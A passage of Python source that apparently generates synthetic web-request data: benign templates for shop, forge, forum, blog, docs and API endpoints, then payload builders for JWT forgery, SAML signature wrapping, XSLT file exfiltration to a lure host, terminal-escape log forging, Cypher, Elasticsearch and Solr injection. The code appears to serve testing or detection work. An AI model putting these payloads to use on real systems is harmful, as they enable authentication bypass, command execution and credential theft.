                       "filters[publishedAt][$notNull]=true", f"filters[title][$containsi]={rng.choice(WORDS)}"))
    return f"/api/{coll}?" + _maybe_encoded(rng, f"{filt}&populate=*&pagination[page]={rng.randint(1, 6)}&pagination[pageSize]=25&sort[0]=publishedAt:desc", 0.6)


def _directus(rng: random.Random) -> str:
    coll = rng.choice(("articles", "pages", "team", "faq"))
    if rng.random() < 0.35:
        filt = "filter=" + quote(_compact({"status": {"_eq": "published"}, "date_published": {"_lte": "$NOW"}}), safe="")
    else:
        filt = _maybe_encoded(rng, f"filter[status][_eq]=published&filter[tags][_contains]={rng.choice(TAGS)}")
    return f"/items/{coll}?{filt}&fields=*,author.first_name&sort=-date_created&limit=25&meta=filter_count"


def _trpc(rng: random.Random) -> str:
    procs = rng.sample(("post.byId", "viewer.me", "post.list", "notifications.unread", "settings.get"), rng.randint(1, 3))
    inputs = {str(i): ({"json": {"id": _ulid(rng)}} if p == "post.byId" else {"json": {"limit": 20, "cursor": None}} if p == "post.list"
                       else {"json": None, "meta": {"values": ["undefined"]}}) for i, p in enumerate(procs)}
    return f"/api/trpc/{','.join(procs)}?batch=1&input={quote(_compact(inputs), safe='')}"


def _promql(rng: random.Random) -> str:
    job = rng.choice(("api", "web", "worker", "gateway"))
    return rng.choice((f'sum(rate(http_requests_total{{job="{job}",code=~"5.."}}[5m])) by (instance)',
                       f'histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{{job="{job}"}}[5m])) by (le))',
                       f'up{{job="{job}"}} == 0', 'node_filesystem_avail_bytes{mountpoint="/",fstype!="tmpfs"} / 1e9'))


def _jql(rng: random.Random) -> str:
    return rng.choice((f'project = {rng.choice(_KEYS)} AND status = "In Progress" ORDER BY updated DESC',
                       'assignee = currentUser() AND resolution = Unresolved ORDER BY priority DESC, created ASC',
                       f'project in ({rng.choice(_KEYS)}, {rng.choice(_KEYS)}) AND labels = {rng.choice(TAGS)} AND created >= -14d',
                       f'text ~ "{rng.choice(WORDS)} {rng.choice(NOUNS)}" AND type = Bug'))


TEMPLATES: tuple[Template, ...] = (
    # --- shop: Shopware's SEO pages and forms, WooCommerce's shop pages and Store API, Magento's search and REST API, Medusa
    Template("unseen-protocols.shop.pdp", "shop", "page", _page(lambda r: f"/{r.choice(_SHOPWARE_WORDS)}-{r.choice(NOUNS).title()}/SW{r.randint(10000, 99999)}{r.choice(('', '', '?variant=' + _hex(r, 32)))}")),
    Template("unseen-protocols.shop.category", "shop", "page", _page(lambda r: f"/product-category/{r.choice(CATEGORIES)}/?orderby={r.choice(('popularity', 'price', 'price-desc', 'date'))}"
                                                          + r.choice(('', f"&filter_color={r.choice(WORDS[:6])}&query_type_color=or", f"&min_price={r.randint(0, 40)}&max_price={r.randint(50, 400)}")))),
    Template("unseen-protocols.shop.search", "shop", "search", _page(lambda r: f"/catalogsearch/result/?q={_q(_query(r), r)}{r.choice(('', '&product_list_order=price', '&product_list_mode=list'))}", "search")),
    Template("unseen-protocols.shop.store_products", "shop", "xhr", lambda r: _xhr(f"/wp-json/wc/store/v1/products?category={r.randint(15, 90)}&per_page={r.choice((12, 24))}&page={r.randint(1, 8)}"
                                                                        f"&orderby={r.choice(('price', 'date', 'popularity'))}&order={r.choice(('asc', 'desc'))}")),
    Template("unseen-protocols.shop.cart_add", "shop", "xhr_post", _rest("POST", lambda r: "/wp-json/wc/store/v1/cart/add-item", lambda r: {"id": r.randint(100, 99999), "quantity": r.randint(1, 3),
                                                                                                                         **({"variation": [{"attribute": "pa_size", "value": r.choice(("s", "m", "l"))}]} if r.random() < 0.4 else {})})),
    Template("unseen-protocols.shop.cart_update", "shop", "xhr_post", _rest("PUT", lambda r: f"/rest/default/V1/guest-carts/{_b62(r, 32)}/items/{r.randint(1, 99999)}",
                                                                 lambda r: {"cartItem": {"item_id": r.randint(1, 99999), "qty": r.randint(1, 5), "quote_id": _b62(r, 32)}})),
    Template("unseen-protocols.shop.line_remove", "shop", "xhr_post", _rest("DELETE", lambda r: f"/store/carts/cart_{_ulid(r)}/line-items/item_{_ulid(r)}")),
    Template("unseen-protocols.shop.review", "shop", "form", _form(lambda r: f"/product/{_hex(r, 32)}/rating",
                                                        lambda r: {"points": str(r.randint(1, 5)), "title": pick(r, REVIEW_TEXT)[:36], "content": pick(r, REVIEW_TEXT),
                                                                   "forwardTo": "frontend.detail.page", "forwardParameters": _compact({"productId": _hex(r, 32)})})),
    Template("unseen-protocols.shop.login", "shop", "login", _form(lambda r: "/my-account/", lambda r: {"username": _email(r) if r.random() < 0.7 else r.choice(USERS), "password": _password(r),
                                                                                             **({"rememberme": "forever"} if r.random() < 0.4 else {}),
                                                                                             "woocommerce-login-nonce": _hex(r, 10), "_wp_http_referer": "/my-account/", "login": "Log in"})),
    # --- forge: Bitbucket Data Center, Redmine, Azure DevOps, Gerrit
    Template("unseen-protocols.forge.browse", "forge", "page", _page(lambda r: f"/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/browse/{r.choice(FILES)}"
                                                          + r.choice(('', f"?at=refs%2Fheads%2F{quote(r.choice(BRANCHES), safe='')}", f"?at={_hex(r, 40)}")))),
    Template("unseen-protocols.forge.search", "forge", "search", _page(lambda r: f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_search?text={_q(_query(r, 0.5), r)}&type=code&lp=code-Project"
                                                           f"&filters=Repository%7B{r.choice(REPOS)}%7D&pageSize=25", "search")),
    Template("unseen-protocols.forge.changes", "forge", "xhr", lambda r: _xhr(f"/changes/?O={r.choice(('81', '1000081', '5000081'))}&S={r.choice((0, 25, 50))}&n=25&q="
                                                                   + quote(f"status:open -is:wip project:{r.choice(REPOS)}", safe=":"))),
    Template("unseen-protocols.forge.pr_approve", "forge", "xhr_post", _rest("PUT", lambda r: f"/rest/api/latest/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/pull-requests/{r.randint(1, 4000)}/participants/{r.choice(USERS)}",
                                                                  lambda r: {"status": r.choice(("APPROVED", "NEEDS_WORK", "UNAPPROVED")), "lastReviewedCommit": _hex(r, 40)})),
    Template("unseen-protocols.forge.thread_edit", "forge", "xhr_post", _rest("PATCH", lambda r: f"/{r.choice(_ORGS)}/{_uuid(r)}/_apis/git/repositories/{_uuid(r)}/pullRequests/{r.randint(1, 9000)}"
                                                                   f"/threads/{r.randint(1, 400)}/comments/{r.randint(1, 9)}?api-version=7.1", lambda r: {"content": pick(r, COMMENT_MARKDOWN)})),
    Template("unseen-protocols.forge.review", "forge", "xhr_post", _rest("POST", lambda r: f"/changes/{r.choice(REPOS)}~{r.randint(1000, 99999)}/revisions/current/review",
                                                              lambda r: {"labels": {"Code-Review": r.choice((-1, 1, 2))}, "message": pick(r, COMMENT_MARKDOWN), "tag": "autogenerated:web" if r.random() < 0.1 else None})),
    Template("unseen-protocols.forge.refs", "forge", "git", lambda r: Endpoint("GET", f"/scm/{r.choice(_KEYS).lower()}/{r.choice(REPOS)}.git/info/refs?service=git-upload-pack", "git")),
    Template("unseen-protocols.forge.partial_fetch", "forge", "git", lambda r: Endpoint("POST", f"/a/{r.choice(REPOS)}/git-upload-pack", "git", body=_partial_fetch(r),
                                                                            content_type="application/x-git-upload-pack-request")),
    Template("unseen-protocols.forge.api_prs", "forge", "api", lambda r: Endpoint("GET", f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_apis/git/repositories/{r.choice(REPOS)}/pullrequests"
                                                                       f"?searchCriteria.status={r.choice(('active', 'completed'))}&$top={r.choice((25, 50, 100))}&api-version=7.1", "api")),
    Template("unseen-protocols.forge.note", "forge", "form", _form(lambda r: f"/issues/{r.randint(1, 30000)}",
                                                        lambda r: {"utf8": "\u2713", "_method": "patch", "authenticity_token": _b64url(r, 86), "issue[notes]": pick(r, COMMENT_MARKDOWN),
                                                                   "issue[private_notes]": "0", "last_journal_id": str(r.randint(1, 90000)), "commit": "Submit"})),
    Template("unseen-protocols.forge.login", "forge", "login", _form(lambda r: "/j_atl_security_check", lambda r: {"j_username": r.choice(USERS), "j_password": _password(r), "_atl_remember_me": "on",
                                                                                                        "next": "/projects", "queryString": "next=/projects", "submit": "Log in"})),
    # --- forum: Lemmy, Mastodon, Moodle's forums, the Matrix client API
    Template("unseen-protocols.forum.post", "forum", "page", _page(lambda r: r.choice((f"/post/{r.randint(1, 9_999_999)}", f"/comment/{r.randint(1, 29_999_999)}",
                                                                             f"/c/{r.choice(_COMMUNITIES)}@{r.choice(_INSTANCES)}?dataType=Post&sort={r.choice(('Active', 'Hot', 'TopDay', 'New'))}")))),
    Template("unseen-protocols.forum.status", "forum", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.randint(112 * 10**15, 116 * 10**15)}",
                                                                               f"/@{r.choice(USERS)}@{r.choice(_INSTANCES)}/{r.randint(112 * 10**15, 116 * 10**15)}",
                                                                               f"/tags/{r.choice(TAGS)}")))),
    Template("unseen-protocols.forum.search", "forum", "search", _page(lambda r: f"/search?q={_q(_query(r, 0.5), r)}&type={r.choice(('All', 'Posts', 'Comments'))}&listingType=All&page=1&sort=TopAll", "search")),
    Template("unseen-protocols.forum.timeline", "forum", "xhr", lambda r: _xhr(r.choice((f"/api/v1/timelines/tag/{r.choice(TAGS)}?limit=20&max_id={r.randint(112 * 10**15, 116 * 10**15)}",
                                                                               "/api/v1/timelines/public?local=true&limit=40",
                                                                               f"/api/v3/post/list?community_name={r.choice(_COMMUNITIES)}&sort={r.choice(('Hot', 'Active', 'New'))}&page={r.randint(1, 9)}&limit=20&type_=All",
                                                                               f"/api/v2/search?q={quote(_query(r, 0.5), safe='')}&resolve=true&limit=5")))),
    Template("unseen-protocols.forum.favourite", "forum", "xhr_post", _rest("POST", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}/{r.choice(('favourite', 'reblog', 'bookmark'))}")),
    Template("unseen-protocols.forum.matrix_send", "forum", "xhr_post", _matrix_send),
    Template("unseen-protocols.forum.status_delete", "forum", "xhr_post", _rest("DELETE", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}")),
    Template("unseen-protocols.forum.reply", "forum", "form", _form(lambda r: "/mod/forum/post.php",
                                                         lambda r: {"reply": str(r.randint(1, 90000)), "forum": str(r.randint(1, 900)), "discussion": str(r.randint(1, 60000)),
                                                                    "subject": "Re: " + r.choice(TOPICS).replace("-", " "), "message[text]": paragraph(r, FORUM_TEXT), "message[format]": "1",
                                                                    "sesskey": _b62(r, 10), "_qf__mod_forum_post_form": "1", "submitbutton": "Post to forum"})),
    Template("unseen-protocols.forum.login", "forum", "login", lambda r: (_form(lambda q: "/auth/sign_in", lambda q: {"authenticity_token": _b64url(q, 86), "user[email]": _email(q),
                                                                                                       "user[password]": _password(q), "button": ""})(r) if r.random() < 0.6 else
                                                               _form(lambda q: "/login/index.php", lambda q: {"anchor": "", "logintoken": _b62(q, 32), "username": q.choice(USERS),
                                                                                                          "password": _password(q)})(r))),
    Template("unseen-protocols.forum.feed", "forum", "feed", lambda r: Endpoint("GET", r.choice((f"/@{r.choice(USERS)}.rss", f"/tags/{r.choice(TAGS)}.rss",
                                                                                     f"/feeds/c/{r.choice(_COMMUNITIES)}.xml?sort={r.choice(('Active', 'New'))}", "/feeds/local.xml?sort=Hot")), "feed")),
    # --- blog: Blogger, Medium, Isso comments, Netlify's forms, WriteFreely
    Template("unseen-protocols.blog.post", "blog", "page", _page(lambda r: _blogger_path(r) + r.choice(("", "", "?m=1", f"?showComment={_ms(r)}")))),
    Template("unseen-protocols.blog.medium", "blog", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.choice(TOPICS)}-{_hex(r, 12)}", f"/{r.choice(TAGS)}-weekly/{r.choice(TOPICS)}-{_hex(r, 12)}")))),
    Template("unseen-protocols.blog.search", "blog", "search", _page(lambda r: f"/search?q={_q(_query(r), r)}&max-results=20&by-date={r.choice(('true', 'false'))}", "search")),
    Template("unseen-protocols.blog.comments", "blog", "xhr", lambda r: _xhr(f"/?uri={quote(_blogger_path(r), safe='')}&nested_limit=5&limit={r.choice((20, 50))}&after=0&plain=0")),
    Template("unseen-protocols.blog.isso_new", "blog", "xhr_post", _isso_new),
    Template("unseen-protocols.blog.isso_edit", "blog", "xhr_post", _rest("PUT", lambda r: f"/id/{r.randint(1, 40000)}", lambda r: {"text": pick(r, FORUM_TEXT), "author": r.choice(USERS).title(), "website": None})),
    Template("unseen-protocols.blog.contact", "blog", "form", _form(lambda r: r.choice(("/", "/contact/")), lambda r: {"form-name": "contact", "bot-field": "", "name": r.choice(USERS).title(), "email": _email(r),
                                                                                                          "message": pick(r, r.choice((FORUM_TEXT, REVIEW_TEXT)))})),
    Template("unseen-protocols.blog.login", "blog", "login", _form(lambda r: "/auth/login", lambda r: {"alias": r.choice(USERS), "pass": _password(r), "to": r.choice(("/me/c/", "/me/new", ""))})),
    Template("unseen-protocols.blog.feed", "blog", "feed", lambda r: Endpoint("GET", r.choice((f"/feed/@{r.choice(USERS)}", f"/feed/{r.choice(TAGS)}-weekly", f"/{r.choice(USERS)}/feed/")), "feed")),
    # --- docs: BookStack, Confluence, MediaWiki's API, DokuWiki, Jupyter
    Template("unseen-protocols.docs.book", "docs", "page", _page(lambda r: r.choice((f"/books/{r.choice(REPOS)}/page/{r.choice(PAGES)}{r.choice(('', '/revisions'))}",
                                                                           f"/books/{r.choice(REPOS)}/chapter/{r.choice(SECTIONS)}")))),
    Template("unseen-protocols.docs.confluence", "docs", "page", _page(lambda r: f"/wiki/spaces/{r.choice(_KEYS)}/pages/{r.randint(10**5, 10**9)}/{r.choice(WORDS).title()}+{r.choice(PAGES).title()}")),
    Template("unseen-protocols.docs.search", "docs", "search", _page(lambda r: f"/search?term={_q(_query(r, 0.5) + r.choice(('', '', ' {type:page}', ' [tag=' + r.choice(TAGS) + ']')), r)}", "search")),
    Template("unseen-protocols.docs.mw_api", "docs", "xhr", lambda r: _xhr(r.choice((f"/w/api.php?action=parse&page={r.choice(PAGES).title()}_{r.choice(NOUNS)}&prop=text%7Csections&formatversion=2&format=json",
                                                                         f"/w/api.php?action=query&list=search&srsearch={quote(_query(r, 0.5), safe='')}&srlimit=10&format=json&origin=*")))),
    Template("unseen-protocols.docs.cql", "docs", "xhr", lambda r: _xhr("/wiki/rest/api/search?cql=" + quote(f'siteSearch ~ "{_query(r, 0.5)}" AND type in (page,blogpost)', safe="")
                                                             + f"&limit=10&start={r.choice((0, 10, 20))}")),
    Template("unseen-protocols.docs.draft", "docs", "xhr_post", _rest("PUT", lambda r: f"/ajax/page/{r.randint(1, 9000)}/save-draft", lambda r: {"name": r.choice(PAGES).title(), "html": paragraph(r, FORUM_TEXT)})),
    Template("unseen-protocols.docs.notebook", "docs", "xhr_post", _jupyter_save),
    Template("unseen-protocols.docs.comment", "docs", "xhr_post", _rest("POST", lambda r: f"/comment/{r.randint(1, 9000)}", lambda r: {"html": paragraph(r, COMMENT_MARKDOWN), "parent_id": r.choice((None, r.randint(1, 400)))})),
    Template("unseen-protocols.docs.edit", "docs", "form", _form(lambda r: "/doku.php", lambda r: {"sectok": _hex(r, 32), "id": f"{r.choice(SECTIONS)}:{r.choice(PAGES)}", "rev": "0",
                                                                                        "date": str(1_700_000_000 + r.randint(0, 10**8)), "prefix": ".", "suffix": "", "changecheck": _hex(r, 32),
                                                                                        "target": "section", "wikitext": pick(r, COMMENT_MARKDOWN), "summary": r.choice(("", "typo", "clarify")),
                                                                                        "do[save]": "Save"})),
    Template("unseen-protocols.docs.login", "docs", "login", _form(lambda r: f"/doku.php?id={r.choice(('start', r.choice(SECTIONS) + ':' + r.choice(PAGES)))}&do=login&sectok=",
                                                        lambda r: {"sectok": "", "id": "start", "do": "login", "u": r.choice(USERS), "p": _password(r), **({"r": "1"} if r.random() < 0.4 else {})})),
    Template("unseen-protocols.docs.export", "docs", "download", lambda r: Endpoint("GET", r.choice((f"/books/{r.choice(REPOS)}/export/{r.choice(('pdf', 'html', 'markdown', 'plaintext'))}",
                                                                                         f"/wiki/spaces/flyingpdf/pdfpageexport.action?pageId={r.randint(10**5, 10**9)}")), "download")),
    # --- API: PostgREST, Strapi, Directus, tRPC, gRPC-web, Jira, Grafana
    Template("unseen-protocols.api.postgrest", "api", "api", lambda r: Endpoint("GET", _postgrest(r), "api")),
    Template("unseen-protocols.api.postgrest_patch", "api", "api", _json("PATCH", lambda r: f"/rest/v1/{r.choice(_TABLES)}?id=eq.{r.randint(1, 10**6)}",
                                                              lambda r: {"status": r.choice(("paid", "shipped", "cancelled")), "updated_by": _uuid(r)}, "api")),
    Template("unseen-protocols.api.strapi", "api", "api", lambda r: Endpoint("GET", _strapi(r), "api")),
    Template("unseen-protocols.api.directus", "api", "api", lambda r: Endpoint("GET", _directus(r), "api")),
    Template("unseen-protocols.api.trpc", "api", "api", lambda r: Endpoint("GET", _trpc(r), "api")),
    Template("unseen-protocols.api.grpc_web", "api", "api", lambda r: Endpoint("POST", f"/{r.choice(('billing.v1', 'orders.v2', 'crm.v1'))}.{r.choice(('OrderService', 'InvoiceService', 'CustomerService'))}"
                                                                            f"/{r.choice(('Get', 'List', 'Search'))}{r.choice(('Order', 'Invoices', 'Customers'))}", "api", "xhr_post",
                                                                    _grpc_web(r), "application/grpc-web-text")),
    Template("unseen-protocols.api.jira", "api", "api", lambda r: Endpoint("GET", f"/rest/api/3/search/jql?jql={quote(_jql(r), safe='')}&maxResults={r.choice((50, 100))}&fields=summary,status,assignee", "api")),
    Template("unseen-protocols.api.grafana", "api", "api", _json("POST", lambda r: f"/api/ds/query?ds_type=prometheus&requestId=SQR{r.randint(100, 999)}",
                                                      lambda r: {"queries": [{"refId": "A", "datasource": {"type": "prometheus", "uid": _b62(r, 14)}, "expr": _promql(r), "interval": "",
                                                                              "maxDataPoints": r.choice((600, 1200))}], "from": str(_ms(r) - 21_600_000), "to": str(_ms(r))}, "api")),
    # --- shared by every site
    Template("unseen-protocols.asset.nuxt", "*", "asset", lambda r: (Endpoint("GET", f"/_nuxt/{_b64url(r, 8)}.js", "asset", "script") if r.random() < 0.6
                                                          else Endpoint("GET", f"/_nuxt/entry.{_b64url(r, 8)}.css", "asset", "style"))),
    Template("unseen-protocols.asset.cloudinary", "*", "asset", _asset(lambda r: f"/image/upload/c_fill,g_auto,w_{(w := r.choice((320, 640, 960, 1280)))},h_{w * 3 // 4},q_auto,f_auto/v{r.randint(1_600_000_000, 1_780_000_000)}"
                                                                      f"/{r.choice(('products', 'blog', 'team'))}/{_slug(r)}.jpg", "image")),
    Template("unseen-protocols.asset.thumbor", "*", "asset", _asset(lambda r: f"/unsafe/{r.choice((160, 300, 600))}x{r.choice((0, 200, 400))}/smart/filters:format(webp):quality({r.choice((70, 80, 90))})"
                                                                   f"/uploads/{_slug(r)}.jpg", "image")),
    Template("unseen-protocols.generic.page_data", "*", "xhr", lambda r: _xhr(r.choice((f"/page-data/{r.choice(TOPICS)}/page-data.json", "/page-data/app-data.json", f"/page-data/sq/d/{r.randint(10**8, 10**10)}.json")))),
    Template("unseen-protocols.generic.umami", "*", "xhr_post", _umami),
    Template("unseen-protocols.generic.sentry", "*", "xhr_post", _sentry),
    # a page-view beacon sent by fetch() with a string body (text/plain, no preflight)
    Template("unseen-protocols.generic.insights", "*", "xhr_post", lambda r: Endpoint("POST", "/_vercel/insights/view", "xhr", "xhr_post",
                                                                            _compact({"o": f"https://{r.choice(tuple(HOSTS.values()))}/{_slug(r)}", "sv": "0.1.3",
                                                                                      "sdkn": "@vercel/analytics/next", "sdkv": f"1.{r.randint(4, 6)}.{r.randint(0, 3)}",
                                                                                      "ts": _ms(r), "r": r.choice(("", "https://www.google.com/", "https://duckduckgo.com/"))}),
                                                                            "text/plain;charset=UTF-8")),
    Template("unseen-protocols.generic.kratos", "*", "login", _form(lambda r: f"/self-service/login?flow={_uuid(r)}",
                                                         lambda r: {"csrf_token": _b64std(r, 66), "identifier": _email(r) if r.random() < 0.7 else r.choice(USERS), "password": _password(r), "method": "password"})),
    Template("unseen-protocols.generic.token", "*", "login", lambda r: (_json("POST", lambda q: "/auth/v1/token?grant_type=password", lambda q: {"email": _email(q), "password": _password(q), "gotrue_meta_security": {}})(r)
                                                             if r.random() < 0.5 else
                                                             _json("POST", lambda q: "/api/v3/flows/executor/default-authentication-flow/?query=next%3D%252F",
                                                                   lambda q: {"component": "ak-stage-identification", "uid_field": _email(q)} if q.random() < 0.5 else
                                                                   {"component": "ak-stage-password", "password": _password(q)})(r))),
    Template("unseen-protocols.generic.share", "*", "download", lambda r: Endpoint("GET", f"/index.php/s/{_b62(r, 15)}/download?path=%2F&files={_slug(r)}.{r.choice(('pdf', 'zip', 'xlsx'))}", "download")),
    Template("unseen-protocols.generic.packages", "*", "download", lambda r: Endpoint("GET", r.choice((f"/debian/pool/main/{(repo := r.choice(REPOS))[0]}/{repo}/{repo}_{_version(r)}-1_{r.choice(('amd64', 'arm64'))}.deb",
                                                                                           f"/rpm/el{(el := r.choice((8, 9, 10)))}/x86_64/{r.choice(REPOS)}-{_version(r)}-1.el{el}.x86_64.rpm")), "download")),
    Template("unseen-protocols.generic.feed", "*", "feed", lambda r: Endpoint("GET", f"/feed/by_tag/{r.choice(TAGS)}.xml", "feed")),
)

# ---------------------------------------------------------------------------- payloads



def _b64u(obj: object) -> str:
    return base64.urlsafe_b64encode(_compact(obj).encode()).rstrip(b"=").decode()


def _lure(rng: random.Random) -> str:
    """A host an attacker controls: a testing service's, or a look-alike registered for it."""
    if rng.random() < 0.5:
        return attacks._host(rng)
    brand = rng.choice(("shop", "git", "forum", "docs", "login", "account", "secure"))
    return f"{brand}-{rng.choice(('verify', 'auth', 'session', 'portal'))}{rng.randint(1, 99)}.{rng.choice(('top', 'click', 'help', 'live', 'info'))}"


def _site(rng: random.Random) -> str:
    return rng.choice(tuple(HOSTS.values()))


def _claims(rng: random.Random) -> dict[str, object]:
    iat = 1_760_000_000 + rng.randint(0, 10**7)
    claims: dict[str, object] = {"sub": rng.choice(("admin", "1", "root", rng.choice(USERS))), "iat": iat, "exp": iat + rng.choice((3600, 86400, 10**8))}
    claims[rng.choice(("role", "roles", "scope", "is_admin"))] = rng.choice(("admin", ["admin"], "read write admin", True))
    return claims


def _jwt_none(rng: random.Random) -> str:
    head = {"alg": rng.choice(("none", "None", "NONE", "nOnE")), "typ": "JWT"}
    token = f"{_b64u(head)}.{_b64u(_claims(rng))}." + rng.choice(("", "", _b64url(rng, 43)))
    return rng.choice(("", "", "Bearer ")) + token


def _jwt_header(rng: random.Random) -> str:
    host = _lure(rng)
    head = rng.choice((
        {"alg": "HS256", "typ": "JWT", "kid": "../" * rng.randint(3, 8) + "dev/null"},
        {"alg": "HS256", "typ": "JWT", "kid": "/proc/sys/kernel/randomize_va_space"},
        {"alg": "HS256", "kid": f"{rng.choice(('key1', 'default', 'x'))}' UNION SELECT 'AA'-- -"},
        {"alg": "HS256", "kid": f"key.pem|curl {host}|sh"},
        {"alg": "RS256", "typ": "JWT", "jku": f"https://{host}/.well-known/jwks.json", "kid": _hex(rng, 8)},
        {"alg": "RS256", "x5u": f"http://{host}/cert.pem"},
        {"alg": "RS256", "jwk": {"kty": "RSA", "e": "AQAB", "kid": "attacker", "n": _b64url(rng, 86)}},
        {"alg": "HS256", "typ": "JWT", "kid": _hex(rng, 8), "jku": f"https://{_site(rng)}/oauth/jwks?redirect=https://{host}/k.json"},
    ))
    return rng.choice(("", "Bearer ")) + f"{_b64u(head)}.{_b64u(_claims(rng))}.{_b64url(rng, 43)}"


_SAML_NS = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
_DSIG_NS = 'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'


def _saml_assertion(rng: random.Random, ident: str, name_id: str, signed: bool) -> str:
    sig = (f'<ds:Signature {_DSIG_NS}><ds:SignedInfo><ds:Reference URI="#{ident}"><ds:DigestValue>{_b64std(rng, 32)}</ds:DigestValue></ds:Reference>'
           f"</ds:SignedInfo><ds:SignatureValue>{_b64std(rng, 96)}</ds:SignatureValue></ds:Signature>") if signed else ""
    return (f'<saml:Assertion ID="{ident}" Version="2.0">{sig}<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">'
            f"{name_id}</saml:NameID></saml:Subject></saml:Assertion>")


def _saml_wrapping(rng: random.Random) -> str:
    """XML signature wrapping: the signed assertion moved where the verifier finds it, a forged one where the app reads."""
    real, forged = f"_{_hex(rng, 32)}", f"_{_hex(rng, 32)}"
    victim = f"{rng.choice(('admin', 'root', 'it-support', 'ceo'))}@{rng.choice(('corp.example', 'example.com'))}"
    mine = _saml_assertion(rng, real, f"{rng.choice(USERS)}@example.org", True)
    evil = _saml_assertion(rng, forged, victim, False)
    wrapped = rng.choice((f"<samlp:Extensions>{mine}</samlp:Extensions>{evil}", f"{evil}{mine}",
                          f'{evil.replace("</saml:Subject>", "</saml:Subject><saml:Advice>" + mine + "</saml:Advice>")}'))
    return f'<samlp:Response {_SAML_NS} ID="_{_hex(rng, 32)}" Version="2.0"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{wrapped}</samlp:Response>'


def _saml_tricks(rng: random.Random) -> str:
    """A comment splitting the signed NameID (the app reads the text before it), or an XSLT transform in the signature."""
    if rng.random() < 0.5:
        victim = rng.choice(("admin@corp.example", "root@example.com", "billing@corp.example"))
        name = rng.choice((f"{victim}<!---->.{_lure(rng)}", f"{victim}<!-- x -->.evil", f"{victim[:3]}<!---->{victim[3:]}"))
        return f'<samlp:Response {_SAML_NS} ID="_{_hex(rng, 32)}">{_saml_assertion(rng, "_" + _hex(rng, 32), name, True)}</samlp:Response>'
    target = rng.choice(("/etc/passwd", "/etc/hostname", "C:/Windows/win.ini"))
    xslt = (f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="doc"><xsl:variable name="f" select="unparsed-text(\'{target}\')"/>'
            f"<xsl:value-of select=\"document(concat('http://{_lure(rng)}/?d=',encode-for-uri($f)))\"/></xsl:template></xsl:stylesheet>")
    return (f'<ds:Signature {_DSIG_NS}><ds:SignedInfo><ds:Reference URI=""><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
            f"{xslt}</ds:Transform></ds:Transforms></ds:Reference></ds:SignedInfo></ds:Signature>")


def _ansi(rng: random.Random) -> str:
    """Terminal escapes in a field that ends up in a log someone reads in a terminal, spelled as they travel."""
    esc = rng.choice(("%1b", "\\x1b", "\\u001b", "\\033", "\\e"))
    line = f"{rng.randint(2025, 2026)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
    return rng.choice((
        f"{esc}[2J{esc}[H", f"{esc}[1A{esc}[2K{line} INFO auth: login ok user=admin", f"x{esc}[8m hidden {esc}[28m",
        f"{esc}]8;;http://{_lure(rng)}/reset{esc}\\\\Reset your password{esc}]8;;{esc}\\\\", f"{esc}]0;{rng.choice(('pwned', 'build ok'))}\\x07",
        f"{esc}[6n", f"{esc}P+q544e{esc}\\\\", f"{esc}[31mERROR{esc}[0m payment gateway down, call +1-555-0100",
        f"%0a{line} INFO [auth] user=admin action=login result=success ip=127.0.0.1",
        f"%0d%0a127.0.0.1 - admin [{rng.randint(1, 28):02d}/Mar/2026:10:00:00 +0000] \"GET /admin/ HTTP/1.1\" 200 {rng.randint(100, 9000)}",
    ))


def _cypher(rng: random.Random) -> str:
    host = _lure(rng)
    return rng.choice((
        "' OR 1=1 WITH 1 AS x MATCH (n) RETURN n LIMIT 25 //", "x' }) RETURN 1 AS x UNION MATCH (u:User) RETURN u.password AS x //",
        f"' CALL db.labels() YIELD label LOAD CSV FROM 'http://{host}/?l='+label AS r RETURN r //",
        f"' OR 1=1 CALL dbms.components() YIELD name, versions LOAD CSV FROM 'https://{host}/'+name+versions[0] AS y RETURN 0 //",
        f"{number(rng)}) MATCH (a) DETACH DELETE a //", "' CALL apoc.load.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value //",
        f"{rng.choice(USERS)}'}}) MATCH (n:User) WHERE n.email STARTS WITH '{rng.choice('abcdefghij')}' RETURN count(n) //",
        "' RETURN 1 UNION CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey AS x //",
    ))


def _es_dsl(rng: random.Random) -> str:
    return rng.choice((
        _compact({"query": {"query_string": {"query": "*:*", "default_field": "*"}}, "size": 10000}),
        _compact({"query": {"match_all": {}}, "_source": ["email", "password_hash", "api_key"], "size": rng.choice((5000, 10000))}),
        _compact({"size": 0, "aggs": {"u": {"terms": {"field": rng.choice(("password.keyword", "api_key.keyword", "email.keyword")), "size": 500}}}}),
        _compact({"query": {"bool": {"must": {"script": {"script": {"source": "Debug.explain(doc)"}}}}}}),
        _compact({"script_fields": {"x": {"script": {"source": "params['_source']"}}}, "query": {"match_all": {}}}),
        _compact({"query": {"regexp": {"title": {"value": "(.*a){30}", "flags": "ALL"}}}}),
        _compact({"query": {"wildcard": {"email": {"value": "*"}}}, "from": 0, "size": 9999}),
    ))


def _lucene_solr(rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return rng.choice((
        "*) OR (_exists_:password", f"{word} OR _index:* OR role:admin", f"{word}) OR (is_admin:true", "title:* AND NOT visibility:private",
        f"{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{_lure(rng)}/x.dtd\"><a></a>'}}", "{!join from=owner_id to=id fromIndex=users}role:admin",
